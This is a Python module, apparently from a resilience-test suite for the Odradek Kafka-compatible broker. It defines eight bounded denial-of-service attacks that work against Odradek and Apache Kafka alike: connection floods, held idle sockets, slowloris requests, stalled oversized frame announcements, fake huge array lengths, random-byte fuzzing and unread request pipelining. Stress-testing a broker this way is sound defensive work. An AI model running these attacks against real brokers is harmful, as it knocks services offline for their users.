"""What hostile clients do to a broker, each as a function of an address: bounded in count, and without a login.

They go against Odradek and Apache Kafka alike. Each returns the sockets that it left open: what a broker spends on them
shows while they are. A refusal, a reset and a full buffer are what an attacker has to expect.
"""

from __future__ import annotations

import random
import socket
import struct
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from typing import Final

from odradek.wire.protocol.api import ApiKey

Sockets = list[socket.socket]
Address = tuple[str, int]
Attack = Callable[[Address], Sockets]

_SECONDS_MAX: Final = 10.0
_ANNOUNCED_BYTES: Final = 7_000_000


LOCALHOST: Final = "127.0.0.1"
# Where attackers of a broker on this machine come from. Honest clients come from 127.0.0.1.
SOURCE: Final = "127.0.0.2"


def local(port: int) -> Address:
    return LOCALHOST, port


def connected(address: Address) -> socket.socket:
    source = (SOURCE, 0) if address[0] == LOCALHOST else None
    return socket.create_connection(address, _SECONDS_MAX, source)


def framed(body: bytes) -> bytes:
    return struct.pack(">i", len(body)) + body


def header(api_key: int, version: int) -> bytes:
    return struct.pack(">hhih", api_key, version, 1, -1)


@contextmanager
def expecting_refusal() -> Iterator[None]:
    with suppress(OSError):
        yield


def flood(address: Address) -> Sockets:
    """3,000 connections that are closed at once."""
    for _ in range(3000):
        with suppress(ConnectionError):
            connected(address).close()
    return []


def hold(address: Address) -> Sockets:
    """500 connections that say nothing."""
    return [connected(address) for _ in range(500)]


def slowloris(address: Address) -> Sockets:
    """300 connections that send a request byte by byte, and never its last one."""
    frame = framed(header(ApiKey.METADATA, 1) + struct.pack(">ih5s", 1, 5, b"topic"))
    held = [connected(address) for _ in range(300)]
    for position in range(len(frame) - 1):
        for one in held:
            with expecting_refusal():
                one.sendall(frame[position : position + 1])
    return held


def announce(address: Address) -> Sockets:
    """40 connections that announce 7 MB, send all but the last byte, and stall."""
    body = header(ApiKey.PRODUCE, 9) + bytes(_ANNOUNCED_BYTES - 11)
    held = []
    for _ in range(40):
        one = connected(address)
        one.settimeout(0.2)
        held.append(one)
        with expecting_refusal():
            one.sendall(struct.pack(">i", _ANNOUNCED_BYTES) + body)
    return held


def announce_and_send_little(address: Address) -> Sockets:
    """200 connections that announce 100 MB and send 70 KB."""
    held = []
    for _ in range(200):
        one = connected(address)
        held.append(one)
        with expecting_refusal():
            one.sendall(struct.pack(">i", 100_000_000) + header(ApiKey.PRODUCE, 9) + bytes(70_000))
    return held


def claim_arrays(address: Address) -> Sockets:
    """Small requests of each API whose arrays claim to have two billion elements."""
    for api in ApiKey:
        for version in range(4):
            with expecting_refusal(), connected(address) as one:
                one.settimeout(0.2)
                one.sendall(framed(header(api, version) + struct.pack(">i", 2**31 - 1) * 8))
                one.recv(1 << 16)
    return []


def send_chance(address: Address) -> Sockets:
    """600 frames of random bytes, sizes among them."""
    chance = random.Random(4)
    for _ in range(600):
        with expecting_refusal(), connected(address) as one:
            one.settimeout(0.02)
            one.sendall(chance.randbytes(chance.randrange(1, 400)))
            one.recv(1 << 16)
    return []


def pipeline_unread(address: Address) -> Sockets:
    """20 connections with 20,000 requests each whose answers are never read."""
    frame = framed(header(ApiKey.API_VERSIONS, 2)) * 1000
    held = []
    for _ in range(20):
        one = connected(address)
        one.settimeout(0.2)
        held.append(one)
        with expecting_refusal():
            for _ in range(20):
                one.sendall(frame)
    return held


ATTACKS: Final[dict[str, Attack]] = {
    one.__name__: one
    for one in (
        flood,
        hold,
        slowloris,
        announce,
        announce_and_send_little,
        claim_arrays,
        send_chance,
        pipeline_unread,
    )
}
